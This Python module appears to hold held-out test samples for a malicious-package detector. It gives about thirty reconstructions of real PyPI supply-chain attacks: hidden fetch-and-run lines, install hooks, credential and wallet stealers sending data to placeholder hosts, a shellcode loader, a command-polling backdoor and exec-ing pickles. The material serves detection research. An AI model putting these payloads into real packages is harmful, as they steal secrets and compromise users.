"""HELD-OUT recall samples: measured, never tuned on.

Each sample is written here from the public description of a real incident or technique
(the source is named with each one); no code is copied from the malware or from any other
tool's test files, payload hosts are documentation IP ranges and example domains, and nothing
here is live. Detector changes must not be made to make a sample here pass: when one is
missed, the fix is a behaviour class (with its own tuning cases and unit tests), and the
miss stays in the published figures until a general fix catches it.

Imported by bench/recall.py (`--set heldout`). Each entry:
(name, kind, {path: content}, what it does, source, classes it exercises).
"""
import base64
import codecs
import zlib

B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731

HOOK = (
    "from setuptools import setup\nfrom setuptools.command.install import install\n"
    "from setuptools.command.develop import develop\n"
)


def _hidden_line(code):
    # Statement pushed far past the right edge of an innocent line.
    return "__version__ = '0.4.6'" + " " * 260 + ";" + code + "\n"


def _torch_zip(code):
    """A PyTorch-style zip (archive/data.pkl) whose pickle calls exec(code) when loaded."""
    import io as _io
    import pickle
    import zipfile as _zf

    class _R:
        def __reduce__(self):
            return (exec, (code,))

    buf = _io.BytesIO()
    with _zf.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(_R(), protocol=2))
        z.writestr("archive/version", "3\n")
    return buf.getvalue().decode("latin-1")


def _broken_pickle(code):
    """A protocol-2 pickle whose first REDUCE calls exec(code), then breaks: no STOP, a string
    whose length runs past the end (the stream fails to load only after the payload ran)."""
    import pickle

    class _R:
        def __reduce__(self):
            return (exec, (code,))

    good = pickle.dumps(_R(), protocol=2)
    return (good[:-1] + b"X\xff\xff\xff\x7fjunk").decode("latin-1")


def _pickle_p0(module, name, *args):
    """A protocol-0 pickle, written opcode by opcode, that calls module.name(*args) when loaded
    (GLOBAL, MARK, string arguments, TUPLE, REDUCE, STOP)."""
    body = "".join("S'%s'\n" % a for a in args)
    return "c%s\n%s\n(%stR." % (module, name, body)


SAMPLES = [
    # Checkmarx, "top.gg" GitHub/PyPI campaign (2024): a fake colorama whose __init__ hides a
    # fetch-and-run past the visible line with whitespace; the second stage comes from a paste host.
    ("demo-colour-term", "wheel", {"demo_colour_term/__init__.py":
        "from .ansi import Fore, Back, Style\n"
        + _hidden_line("import requests;exec(requests.get('https://paste.example.net/raw/Yk2fQ').text)")
        + "def init(autoreset=False):\n    return None\n",
        "demo_colour_term/ansi.py": "class Fore:\n    RED = '\\x1b[31m'\nclass Back:\n    RED = '\\x1b[41m'\nclass Style:\n    RESET_ALL = '\\x1b[0m'\n"},
     "fetch-and-exec hidden past the visible line in __init__", "Checkmarx, top.gg supply-chain campaign (2024)",
     ["hidden-code", "download-run", "import-time", "shady-links"]),

    # Phylum, "requests-darwin-lite" (2024): a requests fork whose install command checks the
    # machine and extracts a binary hidden inside the package's logo image, then runs it.
    ("demo-req-darwin", "sdist", {
        "setup.py": HOOK +
        "import os, subprocess\n\n"
        "class Cmd(install):\n    def run(self):\n        install.run(self)\n"
        "        uid = subprocess.check_output(['system_profiler', 'SPHardwareDataType']).decode()\n"
        "        if 'A1B2C3D4' in uid:\n"
        "            blob = open('docs/_static/logo.png', 'rb').read()\n"
        "            payload = blob[blob.index(b'IEND') + 8:]\n"
        "            open('/tmp/.bin', 'wb').write(payload)\n"
        "            os.chmod('/tmp/.bin', 0o755)\n            subprocess.Popen(['/tmp/.bin'])\n\n"
        "setup(name='demo-req-darwin', version='2.28.2', cmdclass={'install': Cmd})\n",
        "docs/_static/logo.png": "\x89PNG\r\n\x1a\n" + "\x00" * 40 + "IEND\xaeB`\x82" + "\x7fELF\x02\x01\x01" + "\x00" * 32},
     "install hook extracts a binary appended to an image and runs it", "Phylum, requests-darwin-lite (2024)",
     ["steganography", "download-run", "non-source-payload"]),

    # Fortinet FortiGuard, "zebo" / "cometlogger" (2024): keylogging and periodic screenshots
    # with ImageGrab, uploaded to an image host and a webhook, URLs kept hex-encoded.
    ("demo-zebo", "wheel", {"demo_zebo/__init__.py":
        "import time, threading, io, requests\nfrom PIL import ImageGrab\n"
        "_u = bytes.fromhex('" + "https://discord.com/api/webhooks/1180000000000000000/Zm9vYmFyYmF6cXV4".encode().hex() + "').decode()\n"
        "def _shot():\n    while True:\n        buf = io.BytesIO()\n        ImageGrab.grab().save(buf, 'PNG')\n"
        "        requests.post(_u, files={'file': ('s.png', buf.getvalue())})\n        time.sleep(600)\n"
        "threading.Thread(target=_shot, daemon=True).start()\n"},
     "screenshots sent to a webhook every ten minutes from import", "Fortinet, zebo and cometlogger (2024)",
     ["screen-capture", "exfiltration", "import-time", "dynamic-access"]),

    # Socket, "fabrice" typosquat of fabric (2024): reads AWS credentials through boto3 and
    # sends them to a raw IP; on Windows writes a VBScript into AppData and runs it.
    ("fabrice", "wheel", {"fabrice/__init__.py":
        "import os, platform, subprocess, urllib.request, json\n"
        "def _linux():\n    import boto3\n    c = boto3.Session().get_credentials()\n"
        "    body = json.dumps({'k': c.access_key, 's': c.secret_key, 't': c.token}).encode()\n"
        "    urllib.request.urlopen('http://198.51.100.23:8080/h', data=body)\n"
        "def _win():\n    p = os.path.join(os.getenv('APPDATA'), 'p.vbs')\n"
        "    with open(p, 'wb') as f:\n        f.write(urllib.request.urlopen('http://198.51.100.23/p.vbs').read())\n"
        "    subprocess.call(['wscript', p])\n"
        "_win() if platform.system() == 'Windows' else _linux()\n"},
     "AWS credential theft to a raw IP; VBScript dropper on Windows", "Socket, fabrice (2024)",
     ["exfiltration", "credential-theft", "download-run", "import-time", "typosquat"]),

    # ReversingLabs, "aiocpa" (2024): an update of a real crypto client added code that sends
    # the user's tokens to a Telegram bot, wrapped in dozens of base64+zlib layers.
    ("demo-aiocpa", "wheel", {"demo_aiocpa/utils/sync.py":
        "import base64 as _b, zlib as _z\n_layer = lambda s: _z.decompress(_b.b64decode(s))\n"
        "code = b'" + base64.b64encode(zlib.compress(base64.b64encode(zlib.compress(
            b"import requests,os\nrequests.post('https://api.telegram.org/bot7000000000:AAF-example-token-0000000000000000/sendMessage',"
            b"data={'chat_id':1,'text':os.environ.get('CRYPTO_PAY_TOKEN')})")))).decode() + "'\n"
        "for _ in range(2):\n    code = _layer(code)\nexec(code)\n",
        "demo_aiocpa/__init__.py": "from .utils.sync import *\n"},
     "layered base64+zlib decode through a loop variable, then exec; token to a Telegram bot", "ReversingLabs, aiocpa (2024)",
     ["decode-run", "exfiltration", "import-time"]),

    # Dependency-confusion research probes (Birsan 2021 and many copycats): setup.py sends
    # hostname, user and working directory to an out-of-band collaborator at install.
    ("demo-internal-sdk", "sdist", {"setup.py":
        "import socket, getpass, os, urllib.request, urllib.parse\nfrom setuptools import setup\n"
        "q = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})\n"
        "try:\n    urllib.request.urlopen('https://c7f3k2.oast.fun/?' + q, timeout=3)\nexcept Exception:\n    pass\n"
        "setup(name='demo-internal-sdk', version='9.9.9')\n"},
     "install-time beacon of host, user and cwd to an OOB collaborator", "Birsan, dependency confusion (2021) and copycat probes",
     ["beacon", "exfiltration"]),

    # JFrog, "discordpydebug"-style RAT (Socket 2025): polls a command server and runs
    # whatever it returns through the shell, starting at import.
    ("demo-rat-poll", "wheel", {"demo_rat_poll/__init__.py":
        "import subprocess, time, requests, threading\nC2 = 'http://203.0.113.40:7000'\n"
        "def _loop():\n    while True:\n        cmd = requests.get(C2 + '/cmd').text\n"
        "        if cmd:\n            out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n"
        "            requests.post(C2 + '/out', data=out)\n        time.sleep(5)\n"
        "threading.Thread(target=_loop, daemon=True).start()\n"},
     "remote command loop over HTTP started on import", "Socket, discordpydebug (2025)",
     ["reverse-shell", "import-time", "shady-links"]),

    # ultralytics compromise (Dec 2024): the model downloader was changed to fetch a miner
    # into a temp path and start it; path built with os.path.join and passed through variables.
    ("demo-model-dl", "wheel", {"demo_model_dl/downloads.py":
        "import os, stat, tempfile, subprocess, requests\n"
        "def safe_download(url, dest=None):\n    r = requests.get(url)\n    open(dest, 'wb').write(r.content)\n    return dest\n"
        "def _warmup():\n    target = os.path.join(tempfile.gettempdir(), 'ultralytics_runner')\n"
        "    safe_download('http://198.51.100.77/xmr', target)\n"
        "    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)\n"
        "    subprocess.Popen([target, '--donate-level', '1'])\n_warmup()\n",
        "demo_model_dl/__init__.py": "from . import downloads\n"},
     "downloads a binary to the temp dir through a helper and runs it on import", "ultralytics PyPI compromise (Dec 2024)",
     ["download-run", "import-time"]),

    # Checkmarx, "apicolor"/"installpy" (2023): downloads an image and recovers code from
    # its pixels with an LSB library, then runs it.
    ("demo-stego-img", "wheel", {"demo_stego_img/__init__.py":
        "import requests, io\nfrom PIL import Image\nfrom judyb import lsb\n"
        "img = Image.open(io.BytesIO(requests.get('https://img.example.net/a/4Qx7.png').content))\n"
        "exec(lsb.reveal(img))\n"},
     "code recovered from image pixels (LSB) and executed", "Checkmarx, apicolor / installpy (2023)",
     ["steganography", "decode-run", "import-time"]),

    # Zscaler ThreatLabz, "termncolor"/"colorinal" (2025): the package ships a DLL and loads it
    # through ctypes, whose export unpacks and starts the next stage (DLL side-loading).
    ("demo-colorinal", "wheel", {"demo_colorinal/unicode.py":
        "import ctypes, os\n_here = os.path.dirname(__file__)\n"
        "def _load():\n    lib = ctypes.CDLL(os.path.join(_here, 'terminate.dll'))\n    lib.envir(b'facade')\n_load()\n",
        "demo_colorinal/__init__.py": "from .unicode import *\n",
        "demo_colorinal/terminate.dll": "MZ\x90\x00" + "\x00" * 60 + "PE\x00\x00"},
     "ships a DLL and calls its export on import", "Zscaler, termncolor / colorinal (2025)",
     ["native-injection", "import-time"]),

    # Shellcode loader pattern (ctypes VirtualAlloc + RtlMoveMemory + CreateThread) described
    # in several FortiGuard PyPI reports (2023).
    ("demo-shellcode", "sdist", {"setup.py": HOOK +
        "import ctypes, base64\n\n"
        "class Cmd(install):\n    def run(self):\n"
        "        buf = base64.b64decode('/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYA==')\n"
        "        k = ctypes.windll.kernel32\n"
        "        k.VirtualAlloc.restype = ctypes.c_uint64\n"
        "        p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n"
        "        k.RtlMoveMemory(ctypes.c_uint64(p), buf, len(buf))\n"
        "        h = k.CreateThread(0, 0, ctypes.c_uint64(p), 0, 0, 0)\n"
        "        k.WaitForSingleObject(h, -1)\n        install.run(self)\n\n"
        "setup(name='demo-shellcode', version='1.0', cmdclass={'install': Cmd})\n"},
     "shellcode runner (VirtualAlloc, RtlMoveMemory, CreateThread) in an install hook", "FortiGuard Labs PyPI reports (2023)",
     ["native-injection", "decode-run"]),

    # ReversingLabs, "fshec2" (2023): the payload lives in a compiled .pyc loaded by path, so
    # source scanners see only a loader.
    ("demo-fshec", "wheel", {"demo_fshec/__init__.py":
        "import importlib._bootstrap_external as _be, os\n"
        "_p = os.path.join(os.path.dirname(__file__), 'full.pyc')\n"
        "_m = _be.SourcelessFileLoader('full', _p).load_module()\n_m.main()\n",
        "demo_fshec/full.pyc": "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"},
     "payload kept in a member named .pyc that is really a script, loaded by path", "ReversingLabs, fshec2 (2023)",
     ["non-source-payload", "import-time"]),

    # Checkmarx, entry-point hijacking (2024): a package registers console scripts named after
    # common commands so that running them runs the package's code.
    ("demo-cmd-shadow", "wheel", {
        "demo_cmd_shadow/cli.py": "import os, sys, urllib.request\n"
        "def main():\n    urllib.request.urlopen('http://203.0.113.12/r?a=' + ' '.join(sys.argv))\n"
        "    os.execvp('/bin/ls', ['ls'] + sys.argv[1:])\n",
        "demo_cmd_shadow-1.0.dist-info/entry_points.txt": "[console_scripts]\nls = demo_cmd_shadow.cli:main\npip = demo_cmd_shadow.cli:main\n"},
     "console scripts that shadow ls and pip and report each call", "Checkmarx, entry-point hijacking (2024)",
     ["install-anomaly", "beacon"]),

    # Clipboard hijackers (Phylum and Checkmarx write-ups, 2022-2023): watch the clipboard and
    # swap wallet addresses for the attacker's.
    ("demo-clip-swap", "wheel", {"demo_clip_swap/__init__.py":
        "import re, threading, time, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
        "def _watch():\n    while True:\n        v = pyperclip.paste()\n"
        "        if BTC.match(v):\n            pyperclip.copy('bc1qexampleexampleexampleexample0000')\n        time.sleep(1)\n"
        "threading.Thread(target=_watch, daemon=True).start()\n"},
     "clipboard watcher replacing wallet addresses, from import", "clipboard-hijacker write-ups (Phylum, Checkmarx 2022-2023)",
     ["screen-capture", "import-time"]),

    # Obfuscated getattr/chr droppers (Sonatype and Phylum write-ups): the sink name is built
    # from chr() codes so no "system" string appears.
    ("demo-chr-getattr", "sdist", {"setup.py":
        "from setuptools import setup\n"
        "_o = __import__(''.join(map(chr, [111, 115])))\n"
        "getattr(_o, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('curl -s http://203.0.113.5/i | sh')\n"
        "setup(name='demo-chr-getattr', version='1.0')\n"},
     "os.system reached through __import__ and getattr with chr()-built names", "obfuscated droppers (Sonatype, Phylum)",
     ["dynamic-access", "download-run"]),

    # Octal-escaped eval (a trick in Check Point and Checkmarx write-ups): eval spelt in escapes.
    ("demo-octal-eval", "wheel", {"demo_octal_eval/__init__.py":
        "import builtins\n_f = getattr(builtins, '\\145\\166\\141\\154')\n"
        "_f(__import__('base64').b64decode('" + B64("__import__('os').system('id > /tmp/.x')") + "'))\n"},
     "eval spelt in octal escapes, base64 payload", "escape-encoded obfuscation write-ups (Check Point 2023)",
     ["dynamic-access", "decode-run", "import-time"]),

    # Same obfuscated setup.py under a neutral name: the issue's "identical code blocked under one
    # name and served under another" family (whitespace-hidden, reversed base64, exec).
    ("demo-neutral-name", "sdist", {"setup.py":
        "from setuptools import setup\n"
        + _hidden_line("exec(__import__('base64').b64decode('" + B64("import os;os.system('curl http://203.0.113.61/s|sh')")[::-1] + "'[::-1]))")
        + "setup(name='demo-neutral-name', version='0.1')\n"},
     "hidden reversed-base64 exec in setup.py under a name that imitates nothing", "heavily obfuscated setup.py family (issue 10)",
     ["hidden-code", "decode-run"]),

    # PowerShell dropper inside a command string at import (W4SP/BlazeStealer write-ups):
    # DownloadFile into TEMP, then Start-Process.
    ("demo-ps-drop", "wheel", {"demo_ps_drop/__init__.py":
        "import subprocess\n"
        "subprocess.Popen('powershell.exe -WindowStyle Hidden -Command \"(New-Object System.Net.WebClient)"
        ".DownloadFile(\\'https://files.example.net/upd.exe\\', $env:TEMP+\\'\\\\upd.exe\\'); Start-Process $env:TEMP\\\\upd.exe\"', shell=True)\n"},
     "hidden PowerShell DownloadFile to TEMP + Start-Process on import", "Checkmarx, BlazeStealer (2023)",
     ["download-run", "shady-links", "import-time"]),

    # SSH key and shell history theft sent by SMTP (several 2023 stealer write-ups use smtplib).
    ("demo-smtp-steal", "wheel", {"demo_smtp_steal/__init__.py":
        "import os, smtplib\nfrom email.message import EmailMessage\n"
        "def _go():\n    m = EmailMessage()\n    m['Subject'] = os.uname().nodename\n"
        "    m.set_content(open(os.path.expanduser('~/.ssh/id_rsa')).read() + open(os.path.expanduser('~/.bash_history')).read())\n"
        "    with smtplib.SMTP('203.0.113.25', 587) as s:\n        s.login('u', 'p')\n        s.send_message(m)\n_go()\n"},
     "SSH key and shell history mailed out on import", "smtplib stealer write-ups (2023)",
     ["credential-theft", "exfiltration", "import-time"]),

    # pyproject backend-path: the build backend is in-tree code that runs when pip asks for
    # metadata (technique discussed in PEP 517 security notes and red-team write-ups).
    ("demo-intree-backend", "sdist", {
        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
        "_build/backend.py": "import os, urllib.request\n"
        "exec(urllib.request.urlopen('http://203.0.113.33/b').read())\n"
        "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
        "def build_wheel(wd, config_settings=None, metadata_directory=None):\n    raise SystemExit(1)\n"},
     "in-tree build backend fetches and runs code when pip builds metadata", "PEP 517 backend-path technique",
     ["install-anomaly", "download-run"]),

    # Socket, "solana-token"/wallet stealers (2024-2025): reads wallet key files and posts them to
    # a free-hosting endpoint.
    ("demo-sol-keys", "wheel", {"demo_sol_keys/__init__.py":
        "import os, glob, json, urllib.request\n"
        "def _k():\n    out = {}\n    for p in glob.glob(os.path.expanduser('~/.config/solana/*.json')):\n        out[p] = open(p).read()\n"
        "    req = urllib.request.Request('https://demo-sol-keys.glitch.me/k', data=json.dumps(out).encode())\n"
        "    urllib.request.urlopen(req)\n_k()\n"},
     "Solana wallet keypairs posted to a free-hosting app on import", "Socket, solana wallet stealers (2024-2025)",
     ["credential-theft", "exfiltration", "import-time"]),
    # --- second held-out batch (2026-11-30, recall helper): written before any detector change
    # of that day and measured first; never tuned on.

    # litellm 1.82.8 compromise (March 2026; write-ups by FutureSearch, Snyk and others): a
    # `*_init.pth` file in the wheel starts a child interpreter on every Python start that
    # decodes and runs a credential harvester (environment, SSH, cloud and Kubernetes files)
    # and sends the bundle to a domain made to look like the project's own.
    ("demo-llm-pth", "wheel", {
        "demo_llm_pth_init.pth": "import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        "'import base64; exec(base64.b64decode(\"" + B64(
            "import os, json, glob, urllib.request\n"
            "d = {'env': dict(os.environ)}\n"
            "for p in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.docker/config.json']:\n"
            "    p = os.path.expanduser(p)\n"
            "    if os.path.exists(p):\n        d[p] = open(p).read()\n"
            "urllib.request.urlopen('https://models.demo-llm.example.net/v1/u', data=json.dumps(d).encode())\n")
        + "\"))'])\n",
        "demo_llm_pth/__init__.py": "__version__ = '1.82.8'\n"},
     ".pth starts a child interpreter running a decoded credential harvester at every Python start",
     "litellm 1.82.8 compromise (March 2026: FutureSearch, Snyk write-ups)",
     ["install-anomaly", "decode-run", "credential-theft", "exfiltration"]),

    # litellm 1.82.7 (same incident): the payload sat in the proxy module itself and ran when it
    # was imported; here it is written to a temp file by a bootstrap function the module calls.
    ("demo-llm-proxy", "wheel", {
        "demo_llm_proxy/proxy_server.py": "import base64, os, subprocess, sys, tempfile\n"
        "_P = '" + B64("import os, urllib.request\nurllib.request.urlopen('https://models.demo-llm.example.net/k', data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n") + "'\n"
        "def _bootstrap():\n    path = os.path.join(tempfile.gettempdir(), '.p.py')\n"
        "    with open(path, 'wb') as f:\n        f.write(base64.b64decode(_P))\n"
        "    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "_bootstrap()\n"
        "def run_server(host='0.0.0.0', port=4000):\n    return (host, port)\n",
        "demo_llm_proxy/__init__.py": "from .proxy_server import run_server\n"},
     "decoded stealer written to the temp dir and run by a bootstrap function called on import",
     "litellm 1.82.7 compromise (March 2026)",
     ["decode-run", "download-run", "credential-theft", "exfiltration", "import-time"]),

    # lightning 2.6.2/2.6.3 compromise (April 2026; Socket, Sonatype write-ups): a hidden `_runtime`
    # package started from `__init__` spawns a background thread that fetches the Bun runtime and
    # runs a large obfuscated JavaScript stealer shipped in the package.
    ("demo-lightning-rt", "wheel", {
        "demo_lightning_rt/__init__.py": "from ._runtime import start as _start\n_start()\n__version__ = '2.6.2'\n",
        "demo_lightning_rt/_runtime/__init__.py": "import os, stat, threading, zipfile, urllib.request\n"
        "_HERE = os.path.dirname(__file__)\n"
        "def _run():\n    cache = os.path.expanduser('~/.cache/.rt')\n    os.makedirs(cache, exist_ok=True)\n"
        "    z = os.path.join(cache, 'b.zip')\n"
        "    urllib.request.urlretrieve('https://dl.example.net/bun-v1.3.13/bun-linux-x64.zip', z)\n"
        "    zipfile.ZipFile(z).extractall(cache)\n    exe = os.path.join(cache, 'bun-linux-x64', 'bun')\n"
        "    os.chmod(exe, os.stat(exe).st_mode | stat.S_IEXEC)\n"
        "    os.spawnv(os.P_NOWAIT, exe, [exe, 'run', os.path.join(_HERE, 'router_runtime.js')])\n"
        "def start():\n    threading.Thread(target=_run, daemon=True).start()\n",
        "demo_lightning_rt/_runtime/router_runtime.js": "var _0x1a=['\\x63\\x68\\x69\\x6c\\x64'];(function(){eval(atob('" + B64("require('child_process').exec('env')") + "'))})();\n"},
     "import starts a thread (through a function in another module) that downloads a runtime and runs a shipped obfuscated script",
     "lightning 2.6.2 compromise (April 2026: Socket, Sonatype)",
     ["download-run", "import-time", "decode-run"]),

    # telnyx 4.87.1/4.87.2 compromise (March 2026; several write-ups): the client module fetches a
    # WAV file whose audio frames are base64 of an XOR-encrypted payload, decodes it, and on
    # Windows drops the result into the Startup folder; elsewhere it runs the decoded Python.
    ("demo-telnyx-wav", "wheel", {
        "demo_telnyx_wav/_client.py": "import base64, io, os, subprocess, sys, threading, urllib.request, wave\n"
        "_K = b'k3y'\n"
        "def _frames():\n    data = urllib.request.urlopen('http://198.51.100.44/ring.wav').read()\n"
        "    w = wave.open(io.BytesIO(data))\n    return w.readframes(w.getnframes())\n"
        "def _unpack():\n    raw = base64.b64decode(_frames())\n    return bytes(b ^ _K[i % len(_K)] for i, b in enumerate(raw))\n"
        "def _setup():\n    payload = _unpack()\n    if sys.platform == 'win32':\n"
        "        p = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'msbuild.exe')\n"
        "        open(p, 'wb').write(payload)\n    else:\n"
        "        subprocess.run([sys.executable, '-'], input=payload)\n"
        "threading.Thread(target=_setup, daemon=True).start()\n"
        "class Client:\n    def __init__(self, api_key=None):\n        self.api_key = api_key\n",
        "demo_telnyx_wav/__init__.py": "from ._client import Client\n"},
     "payload decoded from a downloaded WAV's frames, dropped into Startup or run, from a thread started on import",
     "telnyx 4.87.1 compromise (March 2026: audio-steganography write-ups)",
     ["steganography", "decode-run", "download-run", "import-time", "shady-links", "persistence"]),

    # ssh-decorate (2018; BleepingComputer, NeuVector write-ups): a real SSH helper library whose
    # new versions sent host, user name and password of every connection to a `.cf` domain.
    ("demo-ssh-decorate", "wheel", {"demo_ssh_decorate/__init__.py":
        "import requests, paramiko\n"
        "class ssh_connect:\n    def __init__(self, user, password, server, port=22):\n"
        "        self.client = paramiko.SSHClient()\n        self.client.connect(server, port, user, password)\n"
        "        self.log(server, user, password)\n"
        "    def log(self, server, user, password):\n"
        "        try:\n            requests.post('http://demo-ssh-decorate.cf/index.php', data={'name': server, 'username': user, 'password': password})\n"
        "        except Exception:\n            pass\n"},
     "SSH helper that posts each connection's host, user and password to a throwaway-TLD site",
     "ssh-decorate backdoor (2018: BleepingComputer, NeuVector)",
     ["credential-theft", "exfiltration", "shady-links"]),

    # SKCIRT advisory (2017): typosquats of standard-library and popular names (urlib3, ...) whose
    # setup.py reported package name, user and host name to a raw IP on port 8080 at install.
    ("urlib3", "sdist", {"setup.py":
        "import getpass, socket, base64\nfrom setuptools import setup\n"
        "try:\n    import urllib.request as u\nexcept ImportError:\n    import urllib2 as u\n"
        "def _report():\n    data = 'Y:urlib3:%s:%s' % (getpass.getuser(), socket.gethostname())\n"
        "    u.urlopen('http://198.51.100.90:8080/', data=base64.b64encode(data.encode()))\n"
        "try:\n    _report()\nexcept Exception:\n    pass\n"
        "setup(name='urlib3', version='1.22', packages=['urlib3'])\n",
        "urlib3/__init__.py": "from urllib3 import *\n"},
     "typosquat whose setup.py reports user and host to a raw IP at install", "SKCIRT advisory on PyPI typosquats (2017)",
     ["beacon", "typosquat", "exfiltration"]),

    # JFrog, chimera-sandbox-extensions (2025): on import, a domain-generation algorithm picks the
    # command server, the package asks it for a token and then downloads and runs a Python stealer.
    ("demo-dga-sandbox", "wheel", {"demo_dga_sandbox/__init__.py":
        "import hashlib, datetime, requests\n"
        "def _domains():\n    day = datetime.date.today().isoformat()\n"
        "    for i in range(8):\n        h = hashlib.sha256(f'{day}-{i}'.encode()).hexdigest()[:12]\n"
        "        yield h + '.example-dga.net'\n"
        "def _stage():\n    for d in _domains():\n        try:\n"
        "            tok = requests.get(f'https://{d}/auth', timeout=5).text\n"
        "            exec(requests.get(f'https://{d}/s', headers={'Authorization': tok}, timeout=5).text, {})\n"
        "            return\n        except Exception:\n            continue\n"
        "_stage()\n"},
     "DGA-chosen host serves a second stage that is fetched and run from a function called on import",
     "JFrog, chimera-sandbox-extensions (2025)",
     ["download-run", "import-time"]),

    # Checkmarx, fake wallet "decoder" packages (atomicdecoderss and others, 2024): the library
    # works, but the function a user calls with a mnemonic also sends it to the attacker.
    ("demo-wallet-decoder", "wheel", {"demo_wallet_decoder/core.py":
        "import json, urllib.request\n"
        "def _sync(kind, secret):\n    req = urllib.request.Request('https://api.wallet-sync.example.net/v2/s', data=json.dumps({'k': kind, 's': secret}).encode(),\n"
        "                                 headers={'Content-Type': 'application/json'})\n    urllib.request.urlopen(req, timeout=5)\n"
        "def decode_mnemonic(mnemonic, passphrase=''):\n    _sync('mnemonic', mnemonic)\n    return mnemonic.split()\n"
        "def decode_private_key(key):\n    _sync('pk', key)\n    return key.lower()\n",
        "demo_wallet_decoder/__init__.py": "from .core import decode_mnemonic, decode_private_key\n"},
     "wallet helper that sends the mnemonic or private key it is given to a remote API when called",
     "Checkmarx, crypto-wallet decoder packages (2024)",
     ["credential-theft", "exfiltration"]),

    # Sonatype, pytoileur (2024): a setup.py with a statement pushed far to the right that
    # decodes a base64 string; the decoded code downloads an executable and starts it hidden.
    ("demo-toileur", "sdist", {"setup.py":
        "from setuptools import setup\n"
        + _hidden_line("import base64;exec(base64.b64decode('" + B64(
            "import os, urllib.request, subprocess\n"
            "p = os.path.join(os.getenv('TEMP', '/tmp'), 'Runtime.exe')\n"
            "urllib.request.urlretrieve('https://cdn.example.net/Runtime.exe', p)\n"
            "subprocess.Popen([p], creationflags=0x08000000)\n") + "'))")
        + "setup(name='demo-toileur', version='1.0.2', packages=[])\n"},
     "whitespace-hidden base64 payload in setup.py that downloads an .exe and starts it hidden",
     "Sonatype, pytoileur (2024)",
     ["hidden-code", "decode-run", "download-run", "shady-links"]),

    # Checkmarx, CryptoAITools (2024): importing the package starts the stealer in the background
    # (wallets, browser data, Telegram files) and uploads the archive to an anonymous file host.
    ("demo-cryptoai", "wheel", {"demo_cryptoai/__init__.py":
        "import os, glob, shutil, tempfile, threading, requests\n"
        "def _collect():\n    out = tempfile.mkdtemp()\n"
        "    for pat in ['~/.config/Exodus/exodus.wallet/*', '~/.electrum/wallets/*',\n"
        "                '~/.config/google-chrome/Default/Login Data', '~/.local/share/TelegramDesktop/tdata/*']:\n"
        "        for f in glob.glob(os.path.expanduser(pat)):\n            shutil.copy(f, out)\n"
        "    return shutil.make_archive(out, 'zip', out)\n"
        "def _send():\n    z = _collect()\n"
        "    requests.post('https://store1.gofile.io/uploadFile', files={'file': open(z, 'rb')})\n"
        "threading.Thread(target=_send, daemon=True).start()\n"
        "from .bot import TradingBot\n",
        "demo_cryptoai/bot.py": "class TradingBot:\n    def run(self):\n        return 'ok'\n"},
     "wallet, browser and Telegram files zipped and uploaded to a file host from a thread started on import",
     "Checkmarx, CryptoAITools (2024)",
     ["credential-theft", "exfiltration", "import-time"]),

    # --- third held-out batch (2026-11-30, helper "recall3"): written and committed before any
    # detector change of that round, measured on the unchanged build first; never tuned on.

    # JFrog, "pytagora"/"pytagora2" (2021): importing the package connects to a raw IP, reads a
    # base64 blob from the socket and runs it (remote code injection).
    ("demo-pytagora", "wheel", {"demo_pytagora/__init__.py":
        "import socket, base64\n"
        "def _sq():\n    try:\n        s = socket.socket()\n        s.connect(('198.51.100.141', 9009))\n"
        "        buf = b''\n        while not buf.endswith(b'\\n'):\n            buf += s.recv(4096)\n"
        "        exec(base64.b64decode(buf.strip()))\n    except Exception:\n        pass\n"
        "_sq()\n"
        "def square(x):\n    return x * x\n"},
     "base64 code read from a raw-IP socket and executed, from a function called on import",
     "JFrog, pytagora / pytagora2 remote code injection (2021)",
     ["reverse-shell", "decode-run", "import-time", "download-run"]),

    # JFrog, "Python malware imitates signed PyPI traffic" (2021: importantpackage, pptest): the
    # install script sends the user and host name out in DNS labels, hex-encoded and chunked.
    ("demo-dns-chunks", "sdist", {"setup.py":
        "import os, socket, getpass, binascii\nfrom setuptools import setup\n"
        "def _tell():\n    blob = binascii.hexlify(('%s|%s|%s' % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode()).decode()\n"
        "    for i in range(0, len(blob), 60):\n"
        "        try:\n            socket.getaddrinfo('%d.%s.t.example-ns.net' % (i, blob[i:i + 60]), 80)\n"
        "        except OSError:\n            pass\n"
        "_tell()\nsetup(name='demo-dns-chunks', version='0.0.1')\n"},
     "user, host and cwd hex-encoded into chunked DNS lookups at install",
     "JFrog, importantpackage / pptest DNS exfiltration (2021)",
     ["beacon", "exfiltration"]),

    # JFrog, importantpackage (2021), second trick: the beacon is a hand-built HTTP request on a
    # raw socket whose Host header fronts a CDN-hosted domain.
    ("demo-fronted-post", "sdist", {"setup.py":
        "import os, json, socket, ssl\nfrom setuptools import setup\n"
        "body = json.dumps({k: v for k, v in os.environ.items()}).encode()\n"
        "req = b'POST /c HTTP/1.1\\r\\nHost: x7.demo-front.example.net\\r\\nContent-Length: ' + str(len(body)).encode() + b'\\r\\n\\r\\n' + body\n"
        "try:\n    c = ssl.create_default_context().wrap_socket(socket.create_connection(('cdn.example.com', 443)), server_hostname='cdn.example.com')\n"
        "    c.sendall(req)\nexcept Exception:\n    pass\n"
        "setup(name='demo-fronted-post', version='0.1')\n"},
     "environment posted through a hand-built HTTP request on a raw TLS socket at install",
     "JFrog, importantpackage CDN-fronted exfiltration (2021)",
     ["exfiltration", "beacon", "credential-theft"]),

